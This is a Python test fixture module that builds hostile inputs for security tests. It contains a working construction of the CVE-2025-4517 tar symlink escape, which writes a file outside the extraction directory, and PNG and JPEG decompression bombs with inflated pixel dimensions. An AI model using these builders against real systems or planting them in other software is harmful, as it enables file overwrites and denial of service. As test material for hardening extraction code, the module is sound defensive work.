"""Hostile input, built by the tests that need it: tar archives written member by member as given (links, devices,
the CVE-2025-4517 escape) and images whose header claims more pixels than they hold (decompression bombs)."""

from __future__ import annotations

import gzip
import io
import os
import struct
import sys
import tarfile
import zlib

# CPython releases whose tarfile "data" filter stops CVE-2025-4517 (gh-135034)
FILTER_FIXED = {(3, 9): 23, (3, 10): 18, (3, 11): 13, (3, 12): 11, (3, 13): 4}


def filter_is_vulnerable() -> bool:
    """Whether tarfile's "data" filter lets the CVE-2025-4517 archive out on this Python."""
    fixed = FILTER_FIXED.get(sys.version_info[:2])
    return fixed is not None and sys.version_info[2] < fixed


def member(name: str, kind=tarfile.REGTYPE, data: bytes = b"", link: str = "") -> tuple:
    return name, kind, data, link


def tar_gz(members, fmt=tarfile.PAX_FORMAT) -> bytes:
    """A .tar.gz of `(name, type, data, link target)` members, written as given (tarfile checks nothing)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=fmt) as tar:
        for name, kind, data, link in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(data)
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return gzip.compress(raw.getvalue())


def cve_2025_4517(outside: str) -> list:
    """The members of the CVE-2025-4517 escape: 16 directory links, each to a 247-character folder name, nest the
    real path past PATH_MAX, where `os.path.realpath` stops resolving, so the filter judges `…/lll` → `../` × 16 by
    its text (inside) while the kernel follows it (out); `escape` → that link + `/../<outside>` then carries the file
    `escape/flag` to `<target>/../<outside>/flag`."""
    comp, steps, path, members = "d" * 247, "abcdefghijklmnop", "", []
    for s in steps:
        members += [member(os.path.join(path, comp), tarfile.DIRTYPE),
                    member(os.path.join(path, s), tarfile.SYMTYPE, link=comp)]
        path = os.path.join(path, comp)
    link = os.path.join(*steps, "l" * 254)
    members += [member(link, tarfile.SYMTYPE, link="../" * len(steps)),
                member("escape", tarfile.SYMTYPE, link=f"{link}/../{outside}"),
                member("escape/flag", data=b"written outside the target")]
    return members


def png_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A PNG of a few dozen bytes whose header claims `width` × `height` RGB pixels (no pixel data)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b""))


def jpeg_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A real 8×8 JPEG whose frame header (SOF0) is changed to claim `width` × `height` pixels."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)
